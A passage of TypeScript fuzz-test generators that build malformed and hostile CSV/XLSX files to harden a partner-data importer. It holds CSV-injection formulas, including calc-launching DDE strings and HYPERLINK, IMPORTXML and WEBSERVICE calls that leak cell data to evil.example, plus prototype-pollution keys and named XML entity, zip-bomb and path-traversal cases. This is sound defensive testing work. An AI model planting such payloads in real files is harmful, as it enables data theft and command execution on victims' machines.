/**
 * Generators of hostile and broken partner files for the import fuzz test
 * (fuzz-import.test.ts). A fast-check arbitrary draws a small, printable description of a
 * file (a "case": which mutations, where, how big); `buildCsv` / `buildXlsx` turn it into
 * bytes. Descriptions stay small even when the file is 5 MB, so a failing case prints
 * readably and reproduces from the seed.
 *
 * Base files: a valid 8-partner CSV in the column shape the importer recognises, and the
 * same table written by SheetJS as an .xlsx. Raw XLSX mutations take that workbook's parts
 * apart (the way test/helpers/xlsx-parts.ts reads them) and zip them again with a small
 * synchronous ZIP writer below, which can also lie about sizes, methods and flags.
 */
import { constants as zlibConstants, crc32, deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import * as XLSX from 'xlsx';
import { columnLetter } from '../../shared/io/types';
import { prng } from '../helpers/prng';
import { unzip } from '../helpers/xlsx-parts';

// ---------------------------------------------------------------------------------------
// The valid base table

export const BASE_HEADERS = ['Partner ID', 'Partner Name', 'Motion', 'Current Tier', 'Sourced ARR', 'Active Sellers', 'CSAT'];
export const BASE_ROWS: string[][] = [
  ['P1', 'Acme', 'Reseller', 'Gold', '$250,000', '4', '85%'],
  ['P2', 'Beta', 'Services', 'Silver', '$1,200', '2', '90%'],
  ['P3', 'Gamma', 'Technology', 'Bronze', '$90', '1', '70%'],
  ['P4', 'Delta', 'Reseller', 'Gold', '$12,000', '3', '88%'],
  ['P5', 'Echo', 'Services', '', '$10', '1', '50%'],
  ['P6', 'Foxtrot', 'Technology', 'Silver', '$5', '0', '60%'],
  ['P7', 'Golf', 'Reseller', 'Bronze', '$700', '2', '75%'],
  ['P8', 'Hotel', 'Services', 'Gold', '$3,300', '5', '95%'],
];

/** Formula-looking text (OWASP CSV injection); evaluated, the last ones would read "EVALUATED". */
export const FORMULA_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '+1+1',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
  "=-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
  '\t=1+1',
  '=CONCAT("EVAL","UATED")',
  '=UPPER("evaluated")',
] as const;

/** Header names that are special on a plain JavaScript object. */
export const HOSTILE_HEADERS = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  '__defineGetter__',
  '__lookupGetter__',
  'valueOf',
  'isPrototypeOf',
  'constructor.prototype.polluted',
  '__proto__.polluted',
  '__proto__[polluted]',
  'constructor[prototype][polluted]',
  ' __proto__ ',
  'Object.prototype',
] as const;

/** Cell values meant to pollute whatever parses or indexes by them. */
export const HOSTILE_VALUES = [
  '{"polluted":1}',
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  '__proto__',
  'constructor',
  'prototype',
  'polluted',
  '[object Object]',
  'toString',
  'NaN',
  'Infinity',
  '1e309',
  'undefined',
] as const;

// ---------------------------------------------------------------------------------------
// A small synchronous ZIP writer (deflate or store), able to write broken archives

export interface ZipEntry {
  name: string;
  data: Buffer;
  /** store instead of deflate */
  store?: boolean;
  /** the compression method written in the headers (default: 8 or 0 as compressed) */
  method?: number;
  /** general-purpose flags (bit 0: "encrypted"; bit 11: UTF-8 name is always set) */
  flags?: number;
  /** uncompressed size written in the headers instead of the real one */
  claimedSize?: number;
  /** CRC written instead of the real one */
  claimedCrc?: number;
}

export function zipSync(entries: readonly ZipEntry[], comment = ''): Buffer {
  const chunks: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const body = e.store ? e.data : deflateRawSync(e.data);
    const method = e.method ?? (e.store ? 0 : 8);
    const flags = (e.flags ?? 0) | 0x0800;
    const crc = e.claimedCrc ?? crc32(e.data);
    const size = e.claimedSize ?? e.data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt16LE(0, 10); // 00:00
    local.writeUInt16LE(0x21, 12); // 1980-01-01
    local.writeUInt32LE(crc >>> 0, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(size >>> 0, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 4);
    dir.writeUInt16LE(20, 6);
    dir.writeUInt16LE(flags, 8);
    dir.writeUInt16LE(method, 10);
    dir.writeUInt16LE(0, 12);
    dir.writeUInt16LE(0x21, 14);
    dir.writeUInt32LE(crc >>> 0, 16);
    dir.writeUInt32LE(body.length, 20);
    dir.writeUInt32LE(size >>> 0, 24);
    dir.writeUInt16LE(name.length, 28);
    dir.writeUInt32LE(offset, 42);
    chunks.push(local, name, body);
    central.push(dir, name);
    offset += local.length + name.length + body.length;
  }
  const cd = Buffer.concat(central);
  const commentBytes = Buffer.from(comment, 'utf8');
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  end.writeUInt16LE(commentBytes.length, 20);
  return Buffer.concat([...chunks, cd, end, commentBytes]);
}

// ---------------------------------------------------------------------------------------
// Small helpers

const pick = <T>(list: readonly T[], n: number): T => list[((n % list.length) + list.length) % list.length]!;

function pattern(fill: string, size: number): string {
  return fill.repeat(Math.ceil(size / fill.length)).slice(0, size);
}

export function xmlEscape(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}


/** 16,384: Excel's column limit (A … XFD). */
export const EXCEL_COLUMNS = 16_384;

// ---------------------------------------------------------------------------------------
// CSV cases

const HUGE_FILLS = ['letters', 'digits', 'spaces', 'quotes', 'delimiters', 'newlines', 'unicode', 'formula'] as const;
const NEST_STYLES = ['quotes', 'brackets', 'braces', 'tags'] as const;
const CONTROL_TEXT = ['\u0001', '\u001f', '\u007f', '\ufffe', '\uffff', '\ud800', '\udc00', '\u2028', '\u202e', '\u200b', '\ufeff', '\u0085'] as const;
/** Byte sequences that are not UTF-8: a lone continuation, an overlong NUL, a UTF-16 surrogate, a cut sequence … */
const BAD_UTF8: readonly number[][] = [
  [0x80],
  [0xbf],
  [0xc0, 0x80],
  [0xc3, 0x28],
  [0xe2, 0x28, 0xa1],
  [0xed, 0xa0, 0x80],
  [0xf0, 0x28, 0x8c, 0xbc],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0xfe],
  [0xff],
  [0xe2, 0x82],
];
const PREFIXES: readonly (readonly number[])[] = [
  [0x50, 0x4b, 0x03, 0x04], // a ZIP signature in front of text
  [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], // an OLE signature
  [0xff, 0xfe], // a UTF-16 LE BOM over UTF-8 bytes
  [0xfe, 0xff],
  [0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf], // two UTF-8 BOMs
  [0x25, 0x50, 0x44, 0x46], // %PDF
  [0x1f, 0x8b], // gzip
];

export type GridMutation =
  | { kind: 'hugeCell'; row: number; col: number; size: number; fill: (typeof HUGE_FILLS)[number] }
  | { kind: 'wide'; columns: number; dataRows: number; header: 'labels' | 'blank' | 'numbers' | 'same' }
  | { kind: 'formula'; cells: { row: number; col: number; payload: number }[] }
  | { kind: 'hostileHeader'; cells: { col: number; name: number; value: number | null }[] }
  | { kind: 'deepNesting'; row: number; col: number; depth: number; style: (typeof NEST_STYLES)[number] }
  | { kind: 'duplicateHeader'; from: number; to: number }
  | { kind: 'manyEmptyRows'; count: number; delimitersOnly: boolean }
  | { kind: 'titleRows'; count: number }
  | { kind: 'repeatRows'; count: number; blankIds: boolean };

export type TextMutation =
  | { kind: 'lineEndings'; style: 'cr' | 'crlf' | 'mixed' | 'none' }
  | { kind: 'quoteStorm'; at: number; count: number; quote: '"' | "'" }
  | { kind: 'controlChars'; at: number[]; char: number };

export type ByteMutation =
  | { kind: 'truncate'; at: number }
  | { kind: 'byteFlips'; flips: { at: number; xor: number }[] }
  | { kind: 'nulBytes'; at: number[]; run: number }
  | { kind: 'invalidUtf8'; inserts: { at: number; seq: number }[] }
  | { kind: 'prefix'; bytes: number };

export interface CsvCase {
  ext: '.csv' | '.txt' | '.tsv' | '.CSV';
  delimiter: ',' | ';' | '\t' | '|';
  encoding: 'utf-8' | 'utf-8-bom' | 'utf-16le-bom' | 'utf-16le' | 'utf-16be-bom';
  grid: GridMutation[];
  text: TextMutation[];
  bytes: ByteMutation[];
}

const position = fc.integer({ min: 0, max: 0x7fffffff });

/** 1–`maxLength` cells in the first rows and columns, each picking one of `count` entries of a list under `key`. */
function cellsPicking<K extends string>(key: K, count: number, maxLength: number): fc.Arbitrary<({ row: number; col: number } & Record<K, number>)[]> {
  const cell = { row: fc.integer({ min: 0, max: 8 }), col: fc.integer({ min: 0, max: 6 }), [key]: fc.nat(count - 1) } as { [P in 'row' | 'col' | K]: fc.Arbitrary<number> };
  return fc.array(fc.record(cell), { minLength: 1, maxLength }) as fc.Arbitrary<({ row: number; col: number } & Record<K, number>)[]>;
}

const gridMutation: fc.Arbitrary<GridMutation> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.record({
      kind: fc.constant('hugeCell' as const),
      row: fc.integer({ min: 0, max: 8 }),
      col: fc.integer({ min: 0, max: 6 }),
      size: fc.integer({ min: 1 << 20, max: 5 << 20 }),
      fill: fc.constantFrom(...HUGE_FILLS),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('wide' as const),
      columns: fc.constantFrom(EXCEL_COLUMNS, EXCEL_COLUMNS + 1, 4_000, 20_001),
      dataRows: fc.integer({ min: 0, max: 2 }),
      header: fc.constantFrom('labels' as const, 'blank' as const, 'numbers' as const, 'same' as const),
    }),
  },
  {
    weight: 10,
    arbitrary: fc.record({
      kind: fc.constant('formula' as const),
      cells: cellsPicking('payload', FORMULA_PAYLOADS.length, 8),
    }),
  },
  {
    weight: 10,
    arbitrary: fc.record({
      kind: fc.constant('hostileHeader' as const),
      cells: fc.array(
        fc.record({
          col: fc.integer({ min: 0, max: 6 }),
          name: fc.nat(HOSTILE_HEADERS.length - 1),
          value: fc.option(fc.nat(HOSTILE_VALUES.length - 1), { nil: null }),
        }),
        { minLength: 1, maxLength: 4 },
      ),
    }),
  },
  {
    weight: 4,
    arbitrary: fc.record({
      kind: fc.constant('deepNesting' as const),
      row: fc.integer({ min: 0, max: 8 }),
      col: fc.integer({ min: 0, max: 6 }),
      depth: fc.integer({ min: 1_000, max: 100_000 }),
      style: fc.constantFrom(...NEST_STYLES),
    }),
  },
  {
    weight: 3,
    arbitrary: fc.record({ kind: fc.constant('duplicateHeader' as const), from: fc.integer({ min: 0, max: 6 }), to: fc.integer({ min: 0, max: 6 }) }),
  },
  {
    weight: 2,
    arbitrary: fc.record({ kind: fc.constant('manyEmptyRows' as const), count: fc.integer({ min: 1, max: 20_000 }), delimitersOnly: fc.boolean() }),
  },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('titleRows' as const), count: fc.integer({ min: 1, max: 40 }) }) },
  {
    weight: 2,
    arbitrary: fc.record({ kind: fc.constant('repeatRows' as const), count: fc.integer({ min: 100, max: 20_000 }), blankIds: fc.boolean() }),
  },
);

const textMutation: fc.Arbitrary<TextMutation> = fc.oneof(
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('lineEndings' as const), style: fc.constantFrom('cr' as const, 'crlf' as const, 'mixed' as const, 'none' as const) }) },
  {
    weight: 4,
    arbitrary: fc.record({
      kind: fc.constant('quoteStorm' as const),
      at: position,
      count: fc.oneof(fc.integer({ min: 1, max: 3 }), fc.integer({ min: 4, max: 200_000 })),
      quote: fc.constantFrom('"' as const, "'" as const),
    }),
  },
  {
    weight: 3,
    arbitrary: fc.record({
      kind: fc.constant('controlChars' as const),
      at: fc.array(position, { minLength: 1, maxLength: 20 }),
      char: fc.nat(CONTROL_TEXT.length - 1),
    }),
  },
);

const byteMutation: fc.Arbitrary<ByteMutation> = fc.oneof(
  { weight: 4, arbitrary: fc.record({ kind: fc.constant('truncate' as const), at: position }) },
  {
    weight: 4,
    arbitrary: fc.record({
      kind: fc.constant('byteFlips' as const),
      flips: fc.array(fc.record({ at: position, xor: fc.integer({ min: 1, max: 255 }) }), { minLength: 1, maxLength: 24 }),
    }),
  },
  {
    weight: 3,
    arbitrary: fc.record({ kind: fc.constant('nulBytes' as const), at: fc.array(position, { minLength: 1, maxLength: 6 }), run: fc.integer({ min: 1, max: 4 }) }),
  },
  {
    weight: 4,
    arbitrary: fc.record({
      kind: fc.constant('invalidUtf8' as const),
      inserts: fc.array(fc.record({ at: position, seq: fc.nat(BAD_UTF8.length - 1) }), { minLength: 1, maxLength: 10 }),
    }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('prefix' as const), bytes: fc.nat(PREFIXES.length - 1) }) },
);

export const csvCase: fc.Arbitrary<CsvCase> = fc.record({
  ext: fc.constantFrom('.csv' as const, '.csv' as const, '.csv' as const, '.txt' as const, '.tsv' as const, '.CSV' as const),
  delimiter: fc.constantFrom(',' as const, ',' as const, ';' as const, '\t' as const, '|' as const),
  encoding: fc.constantFrom('utf-8' as const, 'utf-8' as const, 'utf-8' as const, 'utf-8-bom' as const, 'utf-16le-bom' as const, 'utf-16le' as const, 'utf-16be-bom' as const),
  grid: fc.array(gridMutation, { maxLength: 2 }),
  text: fc.array(textMutation, { maxLength: 2 }),
  bytes: fc.array(byteMutation, { maxLength: 2 }),
});

/** The mutation kinds of a case, for coverage counts. */
export function csvKinds(c: CsvCase): string[] {
  return [...c.grid, ...c.text, ...c.bytes].map((m) => m.kind);
}

type Cell = string | { raw: string };

function nested(style: (typeof NEST_STYLES)[number], depth: number): string {
  switch (style) {
    case 'quotes':
      return '"'.repeat(depth);
    case 'brackets':
      return `${'['.repeat(depth)}x${']'.repeat(depth)}`;
    case 'braces':
      return `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
    case 'tags':
      return `${'<a>'.repeat(depth)}x${'</a>'.repeat(depth)}`;
  }
}

function hugeText(fill: (typeof HUGE_FILLS)[number], size: number, delimiter: string): string {
  switch (fill) {
    case 'letters':
      return pattern('Acme Partner ', size);
    case 'digits':
      return pattern('1234567890', size);
    case 'spaces':
      return pattern(' ', size);
    case 'quotes':
      return pattern('"', size);
    case 'delimiters':
      return pattern(delimiter, size);
    case 'newlines':
      return pattern('a\n', size);
    case 'unicode':
      return pattern('Ünïcødé 日本 🚀 ', size);
    case 'formula':
      return `=${pattern('A1+', size)}1`;
  }
}

function applyGrid(grid: Cell[][], m: GridMutation, delimiter: string): Cell[][] {
  const at = (row: number, col: number) => ({ r: Math.min(row, grid.length - 1), c: Math.min(col, (grid[0]?.length ?? 1) - 1) });
  switch (m.kind) {
    case 'hugeCell': {
      const { r, c } = at(m.row, m.col);
      grid[r]![c] = hugeText(m.fill, m.size, delimiter);
      return grid;
    }
    case 'wide': {
      const header = grid[0]!;
      const out: Cell[][] = [header.slice()];
      for (let r = 0; r < m.dataRows; r += 1) out.push((grid[r + 1] ?? BASE_ROWS[r]!).slice());
      for (let c = header.length; c < m.columns; c += 1) {
        out[0]!.push(m.header === 'labels' ? `Metric ${c}` : m.header === 'numbers' ? String(c) : m.header === 'same' ? 'ARR' : '');
        for (let r = 1; r < out.length; r += 1) out[r]!.push(c % 3 === 0 ? '' : String((c * 7 + r) % 1000));
      }
      return out;
    }
    case 'formula':
      for (const cell of m.cells) {
        const { r, c } = at(cell.row, cell.col);
        grid[r]![c] = pick(FORMULA_PAYLOADS, cell.payload);
      }
      return grid;
    case 'hostileHeader':
      for (const cell of m.cells) {
        const { c } = at(0, cell.col);
        grid[0]![c] = pick(HOSTILE_HEADERS, cell.name);
        if (cell.value !== null) for (let r = 1; r < grid.length; r += 1) grid[r]![c] = pick(HOSTILE_VALUES, cell.value + r);
      }
      return grid;
    case 'deepNesting': {
      const { r, c } = at(m.row, m.col);
      const text = nested(m.style, m.depth);
      // quotes go in raw, so they break the CSV quoting itself
      grid[r]![c] = m.style === 'quotes' ? { raw: text } : text;
      return grid;
    }
    case 'duplicateHeader': {
      const header = grid[0]!;
      header[Math.min(m.to, header.length - 1)] = header[Math.min(m.from, header.length - 1)]!;
      return grid;
    }
    case 'manyEmptyRows': {
      const width = grid[0]?.length ?? 1;
      const empty = m.delimitersOnly ? Array.from({ length: width }, () => '') : [''];
      const rows = Array.from({ length: m.count }, () => empty.slice());
      return [grid[0]!, ...grid.slice(1, 4), ...rows, ...grid.slice(4)];
    }
    case 'titleRows': {
      const titles: Cell[][] = Array.from({ length: m.count }, (_, i) => [`Partner export ${i + 1} of ${m.count}`]);
      return [...titles, ...grid];
    }
    case 'repeatRows': {
      // one partner many times: the same name (and id, unless blanked) on every row
      const row = (grid[1] ?? grid[0]!).slice();
      if (m.blankIds) row[0] = '';
      return [...grid, ...Array.from({ length: m.count }, () => row.slice())];
    }
  }
}

function serialise(grid: Cell[][], delimiter: string): string {
  const field = (cell: Cell): string => {
    if (typeof cell !== 'string') return cell.raw;
    return /["\r\n]/.test(cell) || cell.includes(delimiter) || /^\s|\s$/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell;
  };
  return grid.map((row) => row.map(field).join(delimiter)).join('\n') + '\n';
}

function applyText(text: string, m: TextMutation): string {
  switch (m.kind) {
    case 'lineEndings': {
      if (m.style === 'crlf') return text.replace(/\n/g, '\r\n');
      if (m.style === 'cr') return text.replace(/\n/g, '\r');
      if (m.style === 'none') return text.replace(/\n/g, ' ');
      let i = 0;
      return text.replace(/\n/g, () => pick(['\n', '\r\n', '\r'], i++));
    }
    case 'quoteStorm': {
      const at = m.at % (text.length + 1);
      return text.slice(0, at) + m.quote.repeat(m.count) + text.slice(at);
    }
    case 'controlChars': {
      let out = text;
      for (const p of m.at) {
        const at = p % (out.length + 1);
        out = out.slice(0, at) + pick(CONTROL_TEXT, m.char) + out.slice(at);
      }
      return out;
    }
  }
}

function encode(text: string, encoding: CsvCase['encoding']): Buffer {
  switch (encoding) {
    case 'utf-8':
      return Buffer.from(text, 'utf8');
    case 'utf-8-bom':
      return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')]);
    case 'utf-16le':
      return Buffer.from(text, 'utf16le');
    case 'utf-16le-bom':
      return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    case 'utf-16be-bom': {
      const le = Buffer.from(text, 'utf16le');
      return Buffer.concat([Buffer.from([0xfe, 0xff]), le.swap16()]);
    }
  }
}

export function applyBytes(bytes: Buffer, m: ByteMutation): Buffer {
  switch (m.kind) {
    case 'truncate':
      return bytes.subarray(0, m.at % Math.max(1, bytes.length));
    case 'byteFlips': {
      const out = Buffer.from(bytes);
      if (out.length === 0) return out;
      for (const f of m.flips) out[f.at % out.length]! ^= f.xor;
      return out;
    }
    case 'nulBytes': {
      let out = bytes;
      for (const p of m.at) {
        const at = p % (out.length + 1);
        out = Buffer.concat([out.subarray(0, at), Buffer.alloc(m.run), out.subarray(at)]);
      }
      return out;
    }
    case 'invalidUtf8': {
      let out = bytes;
      for (const ins of m.inserts) {
        const at = ins.at % (out.length + 1);
        out = Buffer.concat([out.subarray(0, at), Buffer.from(pick(BAD_UTF8, ins.seq)), out.subarray(at)]);
      }
      return out;
    }
    case 'prefix':
      return Buffer.concat([Buffer.from(pick(PREFIXES, m.bytes)), bytes]);
  }
}

export function baseGrid(): string[][] {
  return [BASE_HEADERS.slice(), ...BASE_ROWS.map((r) => r.slice())];
}

export function buildCsv(c: CsvCase): Buffer {
  let grid: Cell[][] = baseGrid();
  for (const m of c.grid) grid = applyGrid(grid, m, c.delimiter);
  let text = serialise(grid, c.delimiter);
  for (const m of c.text) text = applyText(text, m);
  let bytes = encode(text, c.encoding);
  for (const m of c.bytes) bytes = applyBytes(bytes, m);
  return bytes;
}

// ---------------------------------------------------------------------------------------
// XLSX cases

/** The base table with numbers as numbers (what a spreadsheet holds). */
export function baseSheetRows(): (string | number)[][] {
  return [
    BASE_HEADERS.slice(),
    ...BASE_ROWS.map((r) => [r[0]!, r[1]!, r[2]!, r[3]!, Number(r[4]!.replace(/[$,]/g, '')), Number(r[5]!), Number(r[6]!.replace('%', '')) / 100]),
  ];
}

/** A valid .xlsx written by SheetJS from `rows` (shared strings, or inline strings). */
export function sheetJsXlsx(rows: (string | number)[][], sst: boolean, sheetName = 'Partners'): Buffer {
  const ws = XLSX.utils.aoa_to_sheet(rows);
  const wb = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(wb, ws, sheetName);
  return XLSX.write(wb, { type: 'buffer', bookType: 'xlsx', bookSST: sst, compression: true }) as Buffer;
}

/** The parts of a ZIP-based workbook, in order (SheetJS's CFB marker entry left out). */
export function xlsxParts(buffer: Buffer): Map<string, string> {
  const parts = unzip(buffer);
  for (const name of [...parts.keys()]) if (!name.includes('.')) parts.delete(name);
  return parts;
}

const BASE_SST_PARTS = xlsxParts(sheetJsXlsx(baseSheetRows(), true));

function partsWith(replace: Record<string, string | null>): ZipEntry[] {
  const entries: ZipEntry[] = [];
  const names = new Set([...BASE_SST_PARTS.keys(), ...Object.keys(replace)]);
  for (const name of names) {
    const text = Object.prototype.hasOwnProperty.call(replace, name) ? replace[name] : BASE_SST_PARTS.get(name);
    if (text === null || text === undefined) continue;
    entries.push({ name, data: Buffer.from(text, 'utf8') });
  }
  // [Content_Types].xml first, as Office writes it
  entries.sort((a, b) => (a.name === '[Content_Types].xml' ? -1 : b.name === '[Content_Types].xml' ? 1 : 0));
  return entries;
}

const SHEET = 'xl/worksheets/sheet1.xml';
const SST = 'xl/sharedStrings.xml';
const NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const PROLOG = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';

/** One cell of a hand-written sheet: inline text, a number, or anything raw. */
type XCell = { text: string } | { num: string } | { xml: string } | null;

function cellXml(ref: string, cell: XCell): string {
  if (cell === null) return '';
  if ('text' in cell) return `<c r="${ref}" t="inlineStr"><is><t>${xmlEscape(cell.text)}</t></is></c>`;
  if ('num' in cell) return `<c r="${ref}"><v>${cell.num}</v></c>`;
  return cell.xml.replace(/\{ref\}/g, ref);
}

function sheetXml(rows: XCell[][], options: { dimension?: string; prolog?: string; inSheetData?: string } = {}): string {
  const width = Math.max(1, ...rows.map((r) => r.length));
  const dimension = options.dimension ?? `A1:${columnLetter(width - 1)}${rows.length}`;
  const body = rows
    .map((row, r) => `<row r="${r + 1}">${row.map((cell, c) => cellXml(`${columnLetter(c)}${r + 1}`, cell)).join('')}</row>`)
    .join('');
  return `${options.prolog ?? PROLOG}<worksheet ${NS}><dimension ref="${dimension}"/><sheetData>${body}${options.inSheetData ?? ''}</sheetData></worksheet>`;
}

/** The base table as hand-written sheet cells (inline strings and numbers). */
function baseXCells(): XCell[][] {
  return baseSheetRows().map((row) => row.map((v) => (typeof v === 'number' ? { num: String(v) } : v === '' ? null : { text: v })));
}

const MALFORMED = ['unclosed', 'mismatched', 'garbage', 'cut', 'nul', 'encoding', 'noRoot', 'badAttr', 'cdata', 'doubleRoot', 'binary'] as const;
const NESTING_PLACES = ['sheetData', 'cell', 'inlineString', 'workbook', 'sharedStrings'] as const;
const ENTITY_KINDS = ['billionLaughs', 'quadratic', 'externalFile', 'parameter', 'externalDtd'] as const;
const SST_KINDS = ['missingPart', 'missingPartAndRel', 'outOfRange', 'negative', 'nonNumeric', 'fraction', 'empty', 'malformed', 'hugeIndex', 'protoIndex'] as const;
const CONTENT_TYPES = ['missing', 'garbage', 'wrongSheetType', 'empty', 'macroWorkbook', 'noOverrides', 'entity'] as const;
const WIDE_DIMENSIONS = ['A1:XFD1', 'A1:XFD2', 'A1:XFD1048576', 'XFD1048576', 'A1:ZZZZ99999999', ''] as const;
const STRUCTURES = [
  'noWorkbook',
  'relsToMissingSheet',
  'noWorkbookRels',
  'sheetNamedProto',
  'sheetNamedConstructor',
  'duplicateEntries',
  'emptyZip',
  'onlyContentTypes',
  'manySheets',
  'absoluteTarget',
  'pathTraversalTarget',
  'directoryEntry',
  'metadataOutOfRange',
] as const;
const ZIP_LIES = ['storedAsDeflate', 'unknownMethod', 'encryptedFlag', 'wrongSize', 'wrongCrc', 'hugeClaimedSize', 'garbageComment', 'cutDeflate'] as const;
const CELL_VALUES = [
  '<c r="{ref}"><v>NaN</v></c>',
  '<c r="{ref}"><v>Infinity</v></c>',
  '<c r="{ref}"><v>1e999</v></c>',
  '<c r="{ref}"><v>-0</v></c>',
  '<c r="{ref}"><v>0x10</v></c>',
  '<c r="{ref}"><v></v></c>',
  '<c r="{ref}"><v>1,5</v></c>',
  '<c r="{ref}" t="d"><v>not a date</v></c>',
  '<c r="{ref}" t="d"><v>99999-99-99T99:99:99</v></c>',
  '<c r="{ref}" t="e"><v>#BOGUS!</v></c>',
  '<c r="{ref}" t="b"><v>2</v></c>',
  '<c r="{ref}" t="z"><v>1</v></c>',
  '<c r="{ref}" t="n"><v>abc</v></c>',
  '<c r="{ref}" t="inlineStr"><is><t>_x0000_NUL_x0007_</t></is></c>',
  '<c r="{ref}" t="inlineStr"><is><t>&#0;&#xFFFE;&#x1F;</t></is></c>',
  '<c r="ZZZZZZ1"><v>1</v></c>',
  '<c r="XFE1"><v>1</v></c>',
  '<c r="A1048577"><v>1</v></c>',
  '<c r="A99999999"><v>1</v></c>',
  '<c r="AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA1"><v>1</v></c>',
  '<c r="A0"><v>1</v></c>',
  '<c r="A-1"><v>1</v></c>',
  '<c><v>7</v></c>',
  '<c r="{ref}" s="99999"><v>45000</v></c>',
  '<c r="{ref}" t="str"><v>__proto__</v></c>',
  '<c r="{ref}" t="inlineStr"><is><r><t>rich</t></r><r><t xml:space="preserve"> text</t></r></is></c>',
] as const;
const FORMATS = [
  'yyyy-mm-dd',
  '[$-F800]dddd\\,\\ mmmm\\ dd\\,\\ yyyy',
  '0.00E+00',
  '"__proto__"0',
  '[Red][<=100]0;[Blue][>100]0',
  '@@@@@@@@@@@@',
  'd/m/yyyy h:mm:ss.000',
  'mmmmm',
  '[h]:mm:ss',
  '"unterminated',
  '[<>]0;;;',
  'yyyy'.repeat(500),
] as const;
const FORMULAS = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/","Click me")', '1+1', 'SUM(1,1)', 'CONCAT("EVAL","UATED")', 'WEBSERVICE("http://evil.example/")', 'INDIRECT("A1")'] as const;

/** Sparse sheets (sparseWorkbook) and the parts a bomb can hide in (partBomb). */
export const SPARSE_SHAPES = ['corners', 'headerAndFarCell', 'strayColumn', 'strayRow', 'scattered', 'declaredOnly'] as const;
export type SparseShape = (typeof SPARSE_SHAPES)[number];
export const BOMB_PARTS = ['sheet', 'sharedStrings', 'styles', 'workbook', 'theme', 'extra'] as const;
export type BombPart = (typeof BOMB_PARTS)[number];
/** 1,048,576: Excel's row limit. */
export const EXCEL_ROWS = 1_048_576;

export type XlsxMutation =
  | { kind: 'valid'; sst: boolean; grid: GridMutation[] }
  | { kind: 'truncatedZip'; at: number }
  | { kind: 'malformedSheet'; variant: (typeof MALFORMED)[number]; at: number }
  | { kind: 'deepNesting'; depth: number; place: (typeof NESTING_PLACES)[number] }
  | { kind: 'entities'; variant: (typeof ENTITY_KINDS)[number] }
  | { kind: 'formulaCells'; cells: { row: number; formula: number; cached: 'str' | 'num' | 'none' | 'error' | 'shared' }[] }
  | { kind: 'sharedStrings'; variant: (typeof SST_KINDS)[number] }
  | { kind: 'contentTypes'; variant: (typeof CONTENT_TYPES)[number] }
  | { kind: 'wideSheet'; columns: number; dimension: (typeof WIDE_DIMENSIONS)[number]; dataRows: number }
  | { kind: 'structure'; variant: (typeof STRUCTURES)[number] }
  | { kind: 'zipLies'; variant: (typeof ZIP_LIES)[number] }
  | { kind: 'cellValues'; cells: { row: number; col: number; value: number }[] }
  | { kind: 'numberFormats'; format: number; serial: number }
  | { kind: 'decompressionBomb'; megabytes: number }
  | { kind: 'sparse'; shape: SparseShape; row: number; col: number }
  | { kind: 'partBomb'; bomb: PartBomb };

export interface XlsxCase {
  ext: '.xlsx' | '.xlsm' | '.XLSX';
  mutation: XlsxMutation;
  /** byte flips applied to the finished ZIP */
  flips: { at: number; xor: number }[];
}

/** Grid mutations that make sense in a SheetJS-written workbook. */
const workbookGridMutation: fc.Arbitrary<GridMutation> = fc.oneof(
  { weight: 4, arbitrary: gridMutation.filter((m) => m.kind === 'hostileHeader' || m.kind === 'formula' || m.kind === 'duplicateHeader') },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('hugeCell' as const),
      row: fc.integer({ min: 0, max: 8 }),
      col: fc.integer({ min: 0, max: 6 }),
      size: fc.integer({ min: 1 << 20, max: 3 << 20 }),
      fill: fc.constantFrom('letters' as const, 'digits' as const, 'unicode' as const, 'formula' as const),
    }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('titleRows' as const), count: fc.integer({ min: 1, max: 40 }) }) },
);

const xlsxMutation: fc.Arbitrary<XlsxMutation> = fc.oneof(
